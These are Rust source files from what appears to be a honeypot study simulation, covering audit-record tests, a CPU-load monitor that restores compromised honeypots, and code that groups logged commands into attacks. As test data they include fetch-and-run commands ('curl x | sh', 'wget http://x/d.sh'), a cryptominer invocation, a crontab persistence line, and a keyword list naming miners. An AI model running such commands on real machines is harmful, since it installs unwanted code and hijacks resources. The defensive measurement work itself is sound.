        assert_eq!(log.len(), 2);
        let snap = log.snapshot();
        assert!(snap[0].events.is_empty());
        assert_eq!(snap[1].events.len(), 1);
    }

    #[test]
    fn attack_evidence_classification() {
        assert!(record(vec![AppEvent::CommandExecuted {
            command: "id".into()
        }])
        .is_attack_evidence());
        assert!(record(vec![AppEvent::InstallCompleted {
            admin_user: "x".into()
        }])
        .is_attack_evidence());
        assert!(record(vec![AppEvent::ShutdownRequested]).is_attack_evidence());
        assert!(!record(vec![AppEvent::TerminalOpened]).is_attack_evidence());
        assert!(!record(vec![]).is_attack_evidence());
    }

    #[test]
    fn payload_identities_normalize_events() {
        let r = record(vec![
            AppEvent::CommandExecuted {
                command: "curl x | sh".into(),
            },
            AppEvent::ShutdownRequested,
            AppEvent::TerminalOpened,
        ]);
        assert_eq!(r.payload_identities(), vec!["curl x | sh", "shutdown"]);
    }
}
