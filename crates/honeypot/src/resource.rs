//! Out-of-band resource monitoring.
//!
//! "We implemented a resource monitor to observe CPU and network
//! bandwidth usage ... Once a threshold was exceeded, we shut down the
//! honeypot and restored the initial state of the server." The monitor
//! lives outside the honeypot (in the cloud provider's control plane), so
//! root on the machine cannot disable it.

use nokeys_apps::AppEvent;
use std::sync::atomic::{AtomicU64, Ordering};

/// CPU-load threshold above which a honeypot is restored.
pub const CPU_THRESHOLD: f64 = 0.90;

/// Simulated CPU load a command induces, inferred from its content the
/// way the real monitor infers it from utilization patterns.
pub fn load_of(command: &str) -> f64 {
    let c = command.to_ascii_lowercase();
    if c.contains("xmrig") || c.contains("kinsing") || c.contains("minexmr") {
        0.98
    } else if c.contains("curl") || c.contains("wget") {
        0.30
    } else if c.is_empty() {
        0.0
    } else {
        0.15
    }
}

/// Per-honeypot gauge: tracks the highest load currently induced.
#[derive(Debug, Default)]
pub struct ResourceGauge {
    /// Load in hundredths, to stay atomic.
    centi_load: AtomicU64,
    /// Whether a persistent implant (cronjob) is present.
    persistent: AtomicU64,
}

impl ResourceGauge {
    pub fn new() -> Self {
        Self::default()
    }

    /// Account for a batch of application events.
    pub fn note_events(&self, events: &[AppEvent]) {
        for e in events {
            if let Some(cmd) = e.as_execution() {
                let load = (load_of(cmd) * 100.0) as u64;
                self.centi_load.fetch_max(load, Ordering::Relaxed);
                if cmd.contains("crontab") {
                    self.persistent.store(1, Ordering::Relaxed);
                }
            }
        }
    }

    /// Current CPU load estimate (0.0–1.0).
    pub fn cpu(&self) -> f64 {
        self.centi_load.load(Ordering::Relaxed) as f64 / 100.0
    }

    /// Whether the threshold is exceeded (restore required).
    pub fn threshold_exceeded(&self) -> bool {
        self.cpu() > CPU_THRESHOLD
    }

    /// Whether a persistent implant was installed. A plain restart would
    /// not remove it — only the snapshot restore does.
    pub fn has_persistence(&self) -> bool {
        self.persistent.load(Ordering::Relaxed) == 1
    }

    /// Reset after a snapshot restore.
    pub fn reset(&self) {
        self.centi_load.store(0, Ordering::Relaxed);
        self.persistent.store(0, Ordering::Relaxed);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn load_model_ranks_payload_classes() {
        assert!(load_of("/tmp/xmrig -o pool.minexmr.com") > 0.9);
        assert!(load_of("wget http://x/d.sh") < 0.5);
        assert!(load_of("echo hi") < 0.2);
        assert_eq!(load_of(""), 0.0);
    }

    #[test]
    fn gauge_tracks_max_and_persistence() {
        let g = ResourceGauge::new();
        assert!(!g.threshold_exceeded());
        g.note_events(&[AppEvent::CommandExecuted {
            command: "wget x".into(),
        }]);
        assert!(!g.threshold_exceeded());
        g.note_events(&[AppEvent::CommandExecuted {
            command: "(crontab -l; echo xmrig) | crontab -".into(),
        }]);
        assert!(g.threshold_exceeded());
        assert!(g.has_persistence());
        g.reset();
        assert!(!g.threshold_exceeded());
        assert!(!g.has_persistence());
        assert_eq!(g.cpu(), 0.0);
    }

    #[test]
    fn non_execution_events_do_not_move_the_gauge() {
        let g = ResourceGauge::new();
        g.note_events(&[AppEvent::TerminalOpened, AppEvent::ShutdownRequested]);
        assert_eq!(g.cpu(), 0.0);
    }
}
