//! Attack extraction from the central audit log.
//!
//! "If multiple commands were executed from the same source IP within 15
//! minutes, we counted all of the commands as a single attack. Note that
//! we only count the successful execution of system commands" (plus the
//! documented vigilante shutdowns).

use crate::logserver::AuditRecord;
use nokeys_apps::AppId;
use nokeys_netsim::{SimDuration, SimTime};
use serde::Serialize;
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// The grouping window.
pub const GROUPING_WINDOW: SimDuration = SimDuration(15 * 60);

/// One detected attack.
#[derive(Debug, Clone, Serialize)]
pub struct Attack {
    pub app: AppId,
    pub source: Ipv4Addr,
    /// Time of the first evidencing record.
    pub start: SimTime,
    /// Time of the last evidencing record in the group.
    pub end: SimTime,
    /// Normalized payload identities observed in the group.
    pub payloads: Vec<String>,
}

impl Attack {
    /// Primary payload identity (first observed).
    pub fn primary_payload(&self) -> &str {
        self.payloads.first().map(String::as_str).unwrap_or("")
    }
}

/// Extract attacks from the audit log.
pub fn detect_attacks(records: &[AuditRecord]) -> Vec<Attack> {
    // Evidence records, grouped per (app, source IP), in time order.
    let mut evidence: Vec<&AuditRecord> =
        records.iter().filter(|r| r.is_attack_evidence()).collect();
    evidence.sort_by_key(|r| (r.time, r.peer));

    let mut open: HashMap<(AppId, Ipv4Addr), Attack> = HashMap::new();
    let mut closed: Vec<Attack> = Vec::new();

    for record in evidence {
        let key = (record.honeypot, record.peer);
        let mut payloads = record.payload_identities();
        match open.get_mut(&key) {
            Some(attack) if record.time.since(attack.end) <= GROUPING_WINDOW => {
                attack.end = record.time;
                for p in payloads.drain(..) {
                    if !attack.payloads.contains(&p) {
                        attack.payloads.push(p);
                    }
                }
            }
            _ => {
                if let Some(done) = open.remove(&key) {
                    closed.push(done);
                }
                open.insert(
                    key,
                    Attack {
                        app: record.honeypot,
                        source: record.peer,
                        start: record.time,
                        end: record.time,
                        payloads,
                    },
                );
            }
        }
    }
    closed.extend(open.into_values());
    closed.sort_by_key(|a| (a.start, a.source));
    closed
}

/// Time from `study_start` to the first attack on each application
/// (Table 6, "First" column).
pub fn first_attack_hours(attacks: &[Attack], study_start: SimTime) -> HashMap<AppId, f64> {
    let mut out: HashMap<AppId, f64> = HashMap::new();
    for a in attacks {
        let hours = a.start.since(study_start).as_hours_f64();
        out.entry(a.app)
            .and_modify(|h| *h = h.min(hours))
            .or_insert(hours);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_apps::AppEvent;

    fn rec(app: AppId, ip: [u8; 4], secs: i64, cmd: Option<&str>) -> AuditRecord {
        AuditRecord {
            time: SimTime(secs),
            honeypot: app,
            peer: Ipv4Addr::from(ip),
            request_line: "POST /x".into(),
            body_excerpt: String::new(),
            events: match cmd {
                Some(c) => vec![AppEvent::CommandExecuted { command: c.into() }],
                None => vec![],
            },
        }
    }

    #[test]
    fn groups_same_ip_within_window() {
        let records = vec![
            rec(AppId::Hadoop, [81, 2, 0, 1], 0, Some("a")),
            rec(AppId::Hadoop, [81, 2, 0, 1], 10 * 60, Some("b")), // +10min: same attack
            rec(AppId::Hadoop, [81, 2, 0, 1], 40 * 60, Some("a")), // +30min: new attack
        ];
        let attacks = detect_attacks(&records);
        assert_eq!(attacks.len(), 2);
        assert_eq!(attacks[0].payloads, vec!["a", "b"]);
        assert_eq!(attacks[1].payloads, vec!["a"]);
    }

    #[test]
    fn window_extends_with_activity() {
        // Records 10 minutes apart chain into one attack even beyond 15
        // minutes from the start.
        let records = vec![
            rec(AppId::Docker, [81, 2, 0, 2], 0, Some("x")),
            rec(AppId::Docker, [81, 2, 0, 2], 10 * 60, Some("x")),
            rec(AppId::Docker, [81, 2, 0, 2], 20 * 60, Some("x")),
        ];
        assert_eq!(detect_attacks(&records).len(), 1);
    }

    #[test]
    fn different_ips_and_apps_do_not_group() {
        let records = vec![
            rec(AppId::Hadoop, [81, 2, 0, 1], 0, Some("a")),
            rec(AppId::Hadoop, [81, 2, 0, 2], 60, Some("a")),
            rec(AppId::Docker, [81, 2, 0, 1], 120, Some("a")),
        ];
        assert_eq!(detect_attacks(&records).len(), 3);
    }

    #[test]
    fn non_evidence_records_are_ignored() {
        let records = vec![
            rec(AppId::Hadoop, [81, 2, 0, 1], 0, None),
            rec(AppId::Hadoop, [81, 2, 0, 1], 30, None),
        ];
        assert!(detect_attacks(&records).is_empty());
    }

    #[test]
    fn first_attack_times() {
        let records = vec![
            rec(AppId::Hadoop, [81, 2, 0, 1], 3600, Some("a")),
            rec(AppId::Hadoop, [81, 2, 0, 2], 7200, Some("b")),
            rec(AppId::Docker, [81, 2, 0, 3], 7200, Some("c")),
        ];
        let attacks = detect_attacks(&records);
        let firsts = first_attack_hours(&attacks, SimTime(0));
        assert_eq!(firsts[&AppId::Hadoop], 1.0);
        assert_eq!(firsts[&AppId::Docker], 2.0);
    }
}
